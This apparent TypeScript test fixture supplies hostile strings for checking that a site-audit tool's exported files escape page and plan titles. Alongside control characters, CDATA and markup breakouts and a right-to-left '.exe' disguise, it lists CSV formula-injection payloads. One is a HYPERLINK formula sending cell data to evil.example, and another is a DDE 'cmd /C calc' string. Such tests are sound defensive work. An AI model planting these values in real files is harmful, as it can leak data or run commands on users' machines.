import { goldenRecord } from '../../../fixtures/golden/make-record.ts';
import type { RunRecord } from '../../../src/model/record.ts';

/** What a page may call itself to break a file that names it. */
export const hostileTexts: readonly [what: string, text: string][] = [
  ['control characters', 'a\u0000b\u0001c\u0008d\u000be\u001b[31mf\u007fg\u0085h'],
  ['what is no character', 'a\ufffeb\uffffc\ud800d\udc00e'],
  ['the end of a CDATA section', 'a]]>b<![CDATA[c]]>d-->e<!--f'],
  ['markup and entities', '</failure><x y="1">&lt;&#0;&amp;\'"'],
  ['text that turns around', 'abc\u202etxt.exe\u2066\u200f שלום'],
  ['emoji and combining marks', '🏕️👩‍👩‍👧 a\u0301\u0301\u0301 𝒳'],
  ['ten thousand characters', '<b>תפריט</b> '.repeat(800)],
  ['line breaks', 'a\r\nb\rc\nd\u2028e\tf'],
  ['quotes and separators', '"a","b";c,d""e'],
  ['a formula', '=HYPERLINK("https://evil.example?"&A1,"x")'],
  ['a formula by its sign', '-2+3+cmd|\' /C calc\'!A0'],
  ['a formula by its plus', '+1+1'],
  ['a formula by its at', '@SUM(1+1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line break', '\r=1+1'],
];

/** A record in which everything that a site or a plan names is called so. */
export function recordOf(text: string): RunRecord {
  const record = goldenRecord();
  return {
    ...record,
    name: text,
    plan: {
      ...record.plan,
      sites: Object.fromEntries(Object.entries(record.plan.sites).map(([id, site]) => [id, { ...site, title: text }])),
      personas: record.plan.personas.map((persona) => ({ ...persona, title: text })),
      journeys: Object.fromEntries(Object.entries(record.plan.journeys).map(([id, journey]) => [id, { ...journey, title: text, goal: text, touchpoints: journey.touchpoints.map((touchpoint) => ({ ...touchpoint, title: text })) }])),
    },
    ledger: record.ledger.map((entry) => ({ ...entry, ...(entry.reason !== undefined && { reason: text }) })),
    touchpoints: record.touchpoints.map((summary) => ({ ...summary, title: text, ...(summary.problem && { problem: { ...summary.problem, message: text } }) })),
    measurements: record.measurements.map((measurement) => ({ ...measurement, ...(measurement.unavailable !== undefined && { unavailable: text }), unstable: text })),
    findings: record.findings.map((finding) => ({ ...finding, title: text, advice: text, why: text, quote: text, selector: text, key: text, places: finding.places.map((place) => ({ ...place, url: `https://fernwood.example/${text}` })) })),
    gates: record.gates.map((gate) => ({ ...gate, label: text, reasons: [text, text] })),
    comparisons: record.comparisons.map((comparison) => ({ ...comparison, note: text })),
    verdict: { ...record.verdict, sentence: text },
  };
}
